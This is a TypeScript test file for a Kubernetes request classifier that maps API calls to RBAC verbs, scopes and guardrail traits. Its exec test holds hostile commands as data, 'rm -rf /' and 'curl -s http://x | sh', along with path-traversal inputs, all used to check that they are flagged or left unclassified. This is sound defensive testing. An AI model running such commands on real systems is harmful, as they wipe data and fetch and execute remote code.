import assert from 'node:assert/strict'
import { test } from 'node:test'
import { globMatches } from '../../core/index.ts'
import { kubernetesScopeObject } from '../../kinds/kubernetes-scope.ts'
import { classifyRequest } from './classify.ts'

const need = (method: string, url: string): string => {
  const { action } = classifyRequest(method, url)
  if (action.unclassified) return `unclassified: ${action.unclassified}`
  return action.needs.map((e) => `${e.verb}:${e.object}`).join(',')
}

test('requests map to the verb, resource, subresource, namespace and name the API server authorizes', () => {
  const cases: Array<[string, string, string]> = [
    ['GET', '/api/v1/namespaces/team-a/pods', 'list:pods:*@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods?watch=1', 'watch:pods:*@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods?watch=false', 'list:pods:*@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods?watch=0&watch=1', 'list:pods:*@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods?watch=', 'watch:pods:*@team-a'],
    ['GET', '/api/v1/watch/namespaces/team-a/pods', 'watch:pods:*@team-a'],
    ['GET', '/api/v1/watch/namespaces/team-a/pods/web', 'watch:pods:web@team-a'],
    [
      'GET',
      '/api/v1/namespaces/team-a/pods?fieldSelector=metadata.name%3Dweb&watch=true',
      'watch:pods:web@team-a',
    ],
    ['GET', '/api/v1/namespaces/team-a/pods?fieldSelector=metadata.name!%3Dweb', 'list:pods:*@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods/web', 'get:pods:web@team-a'],
    ['HEAD', '/api/v1/namespaces/team-a/pods/web', 'get:pods:web@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods/web/log?follow=true', 'get:pods/log:web@team-a'],
    ['POST', '/api/v1/namespaces/team-a/pods/web/exec?command=ls', 'create:pods/exec:web@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods/web/exec?command=ls', 'create:pods/exec:web@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods/web/portforward', 'create:pods/portforward:web@team-a'],
    ['GET', '/api/v1/namespaces/team-a/pods/web/proxy/metrics', 'get:pods/proxy:web@team-a'],
    ['GET', '/api/v1/proxy/namespaces/team-a/pods/web/metrics', 'proxy:pods:web@team-a'],
    ['DELETE', '/api/v1/namespaces/team-a/pods', 'deletecollection:pods:*@team-a'],
    ['DELETE', '/apis/apps/v1/namespaces/prod/deployments/web', 'delete:deployments.apps:web@prod'],
    ['PATCH', '/apis/apps/v1/namespaces/prod/deployments/web/scale', 'patch:deployments.apps/scale:web@prod'],
    [
      'PUT',
      '/apis/apps/v1/namespaces/prod/deployments/web/status',
      'update:deployments.apps/status:web@prod',
    ],
    ['POST', '/apis/apps/v1/namespaces/prod/deployments', 'create:deployments.apps:*@prod'],
    ['GET', '/api/v1/pods', 'list:pods:*@'],
    ['GET', '/api/v1/namespaces', 'list:namespaces:*@'],
    ['GET', '/api/v1/namespaces/team-a', 'get:namespaces:team-a@team-a'],
    ['DELETE', '/api/v1/namespaces/team-a', 'delete:namespaces:team-a@team-a'],
    ['PUT', '/api/v1/namespaces/team-a/finalize', 'update:namespaces/finalize:team-a@team-a'],
    ['GET', '/api/v1/nodes/n1', 'get:nodes:n1@'],
    [
      'GET',
      '/apis/rbac.authorization.k8s.io/v1/clusterroles/system:basic-user',
      'get:clusterroles.rbac.authorization.k8s.io:system:basic-user@',
    ],
    ['GET', '/api/v1/namespaces/team-a/%70ods/web', 'get:pods:web@team-a'],
    ['GET', '/version', 'get:/version'],
    ['GET', '/api', 'get:/api'],
    ['GET', '/api/v1', 'get:/api/v1'],
    ['GET', '/apis/apps/v1', 'get:/apis/apps/v1'],
    ['GET', '/openapi/v2', 'get:/openapi/v2'],
    ['POST', '/logs', 'post:/logs'],
  ]
  for (const [method, url, expected] of cases) assert.equal(need(method, url), expected, `${method} ${url}`)
})

test('paths the server could route differently, and verbs it does not know, are unclassified', () => {
  for (const url of [
    '/api/v1/namespaces/team-a/pods/../../kube-system/pods',
    '/api/v1/namespaces/team-a//pods',
    '/api/v1/namespaces/team-a/pods/%zz',
    '/api/v1/namespaces/team-a/pods/%2e%2e/x',
    '/api/v1/watch',
    // Go's ParseQuery drops these pairs, URLSearchParams keeps them: a watch here, a list there.
    '/api/v1/pods?watch=1;',
    '/api/v1/pods?watch=1%zz',
    '/api/v1/namespaces/team-a/pods?fieldSelector=metadata.name%3Dweb,x%3D;',
  ])
    assert.match(need('GET', url), /^unclassified/, url)
  assert.match(need('OPTIONS', '/api/v1/namespaces/a/pods/x'), /^unclassified/)
})

test('guardrail traits: namespace/CRD/PV deletes, streams into kube-system, secret reads', () => {
  const traits = (m: string, u: string) => classifyRequest(m, u).action.traits
  assert.deepEqual(traits('DELETE', '/api/v1/namespaces/team-a'), ['delete-namespace'])
  assert.deepEqual(
    traits('DELETE', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/foos.example.com'),
    ['delete-crd'],
  )
  assert.deepEqual(traits('DELETE', '/api/v1/persistentvolumes'), ['delete-pv'])
  assert.deepEqual(traits('GET', '/api/v1/namespaces/kube-system/pods/x/exec'), [
    'container-stream',
    'exec-kube-system',
  ])
  assert.deepEqual(traits('GET', '/api/v1/namespaces/a/secrets'), ['secret-read'])
})

test('written scope objects cover exactly what RBAC would: names, subresources, namespaces', () => {
  const covers = (written: string, method: string, url: string) =>
    globMatches(kubernetesScopeObject(written), classifyRequest(method, url).action.needs[0]!.object)
  assert.ok(covers('pods@team-a', 'GET', '/api/v1/namespaces/team-a/pods/web'))
  assert.ok(covers('pods@team-a', 'GET', '/api/v1/namespaces/team-a/pods'))
  assert.ok(!covers('pods@team-a', 'GET', '/api/v1/namespaces/team-b/pods/web'))
  assert.ok(!covers('pods@team-a', 'GET', '/api/v1/namespaces/team-a/pods/web/exec'))
  assert.ok(!covers('pods@team-a', 'GET', '/api/v1/namespaces/team-a/pods/web/log'))
  assert.ok(!covers('pods@team-a', 'GET', '/api/v1/pods'))
  assert.ok(covers('pods/exec@team-a', 'GET', '/api/v1/namespaces/team-a/pods/web/exec'))
  assert.ok(covers('pods/web/log@team-a', 'GET', '/api/v1/namespaces/team-a/pods/web/log'))
  assert.ok(!covers('pods/web/log@team-a', 'GET', '/api/v1/namespaces/team-a/pods/db/log'))
  assert.ok(covers('deployments/web@prod', 'DELETE', '/apis/apps/v1/namespaces/prod/deployments/web'))
  assert.ok(!covers('deployments/web@prod', 'DELETE', '/apis/apps/v1/namespaces/prod/deployments/web2'))
  assert.ok(covers('deployments.apps/web@prod', 'DELETE', '/apis/apps/v1/namespaces/prod/deployments/web'))
  // The API group is matched: `pods` is the core group's; a built-in resource of another group may be written
  // without it (`deployments`); anything else is named with its group (regression 22-kube-scope-names-api-group).
  assert.ok(!covers('pods@team-a', 'GET', '/apis/metrics.k8s.io/v1beta1/namespaces/team-a/pods'))
  assert.ok(!covers('pods@team-a', 'GET', '/apis/evil.example.com/v1/namespaces/team-a/pods/web'))
  assert.ok(
    covers('pods.metrics.k8s.io@team-a', 'GET', '/apis/metrics.k8s.io/v1beta1/namespaces/team-a/pods'),
  )
  assert.ok(!covers('pods.metrics.k8s.io@team-a', 'GET', '/api/v1/namespaces/team-a/pods'))
  assert.ok(!covers('deployments@prod', 'GET', '/apis/evil.example.com/v1/namespaces/prod/deployments'))
  assert.ok(covers('deployments/scale@prod', 'PATCH', '/apis/apps/v1/namespaces/prod/deployments/web/scale'))
  assert.ok(covers('deployments:web@prod', 'GET', '/apis/apps/v1/namespaces/prod/deployments/web'))
  assert.ok(covers('jobs@prod', 'GET', '/apis/batch/v1/namespaces/prod/jobs'))
  assert.ok(!covers('widgets@prod', 'GET', '/apis/example.com/v1/namespaces/prod/widgets'))
  assert.ok(covers('widgets.example.com@prod', 'GET', '/apis/example.com/v1/namespaces/prod/widgets'))
  assert.ok(covers('*@prod', 'GET', '/apis/example.com/v1/namespaces/prod/widgets'))
  assert.ok(covers('events@prod', 'GET', '/api/v1/namespaces/prod/events'))
  assert.ok(!covers('events@prod', 'GET', '/apis/events.k8s.io/v1/namespaces/prod/events'))
  assert.ok(covers('pods', 'GET', '/api/v1/pods'))
  assert.ok(covers('pods', 'GET', '/api/v1/namespaces/x/pods/y'))
  assert.ok(covers('namespaces', 'GET', '/api/v1/namespaces'))
  assert.ok(covers('namespaces/team-a', 'GET', '/api/v1/namespaces/team-a'))
  assert.ok(covers('*@team-a', 'GET', '/api/v1/namespaces/team-a/pods/web/exec'))
  assert.ok(!covers('*@team-a', 'GET', '/api/v1/namespaces/team-ab/pods/web'))
  // Names are case-sensitive on the API server (RBAC objects may hold capitals): one name never covers another.
  const roles = '/apis/rbac.authorization.k8s.io/v1/clusterroles'
  assert.ok(covers('clusterroles/admin-x@', 'GET', `${roles}/admin-x`))
  assert.ok(!covers('clusterroles/admin-x@', 'GET', `${roles}/Admin-x`))
  assert.ok(covers('clusterroles/Admin-x@', 'GET', `${roles}/Admin-x`))
  assert.ok(!covers('clusterroles/Admin-x@', 'GET', `${roles}/admin-x`))
  for (const written of ['pods@team-a', 'pods/exec@team-a', 'deployments/web@prod', 'pods', '*', '/version'])
    assert.equal(kubernetesScopeObject(kubernetesScopeObject(written)), kubernetesScopeObject(written))
})

test('an exec command is read with the SSH command rules: its traits, or unclassified when it cannot be read', () => {
  const exec = (query: string) =>
    classifyRequest('GET', `/api/v1/namespaces/team-a/pods/web/exec?${query}`).action
  const rm = exec('command=rm&command=-rf&command=/&stdout=true')
  assert.ok(rm.traits.includes('recursive-delete-root'), rm.traits.join(','))
  assert.match(rm.text, / -- rm -rf \/$/)
  assert.equal(rm.unclassified, undefined)
  const curl = exec(`command=sh&command=-c&command=${encodeURIComponent('curl -s http://x | sh')}`)
  assert.ok(curl.traits.includes('download-into-shell'), curl.traits.join(','))
  assert.equal(exec('command=ls').unclassified, undefined)
  assert.match(exec('stdout=true').unclassified ?? '', /names no command/)
  assert.deepEqual(exec('command=ls').needs, [{ verb: 'create', object: 'pods/exec:web@team-a' }])
})

test('discovery and OpenAPI paths of any depth are implied (path globs: `**` crosses segments, `*` does not)', async () => {
  const { KUBERNETES_IMPLICIT_SCOPE } = await import('./index.ts')
  const { scopeCovers } = await import('../../core/index.ts')
  for (const url of ['/api', '/api/v1', '/apis/apps/v1', '/openapi/v3/apis/apps/v1', '/version'])
    assert.ok(scopeCovers(KUBERNETES_IMPLICIT_SCOPE.allow, { verb: 'get', object: url }), url)
  assert.ok(!scopeCovers(KUBERNETES_IMPLICIT_SCOPE.allow, { verb: 'get', object: '/metrics' }))
})
